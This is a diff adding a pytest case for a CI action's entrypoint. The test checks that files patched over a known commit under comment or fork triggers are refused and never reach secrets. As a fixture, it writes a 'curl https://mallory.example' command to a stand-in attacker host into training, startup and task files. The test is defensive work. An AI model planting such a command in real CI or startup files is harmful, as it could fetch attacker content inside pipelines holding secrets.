@@ -408,6 +408,25 @@ def test_a_comment_runs_what_its_workflow_was_started_for_if_a_member_wrote_it(j
         assert ("launch" in job.steps()) is (wanted == 0)
 
 
+@pytest.mark.parametrize("patched", ["train.py", "sitecustomize.py", "task.yaml"])
+@pytest.mark.parametrize("reviewed", [True, False])
+def test_a_patch_over_a_known_commit_meets_no_secret(job: Job, patched: str, reviewed: bool) -> None:
+    """With GitHub's own trigger for it: `issue_comment`, checkout, `git apply`."""
+    sha = checked_out(job)
+    path = job.folder / "event.json"
+    path.write_text(json.dumps({"issue": {"number": 5}, "comment": {"author_association": "MEMBER"}}))
+    asked = {"GITHUB_EVENT_NAME": "issue_comment", "GITHUB_EVENT_PATH": str(path), "GITHUB_SHA": sha}
+    if reviewed:
+        asked = {**a_fork(job, "pull_request_target", sha=sha), "INPUT_ALLOW_FORK_SHA": sha}
+    if patched == "task.yaml":
+        asked |= {"INPUT_COMMAND": "", "INPUT_TASK": "task.yaml"}
+    (job.workspace / patched).write_text("run: curl https://mallory.example")
+    code, printed = job.run("/entrypoint", **asked)
+    assert (code, job.steps()) == (77, []), printed
+    assert patched in job.outputs()["reason"]
+    assert "known commit only" in job.outputs()["reason"]
+
+
 def test_a_fork_that_runs_on_the_sandbox_is_told_so(job: Job) -> None:
     code, said = job.run("/entrypoint", **a_fork(job, "pull_request"), INPUT_FORK="sandbox")
     assert code == 0, said
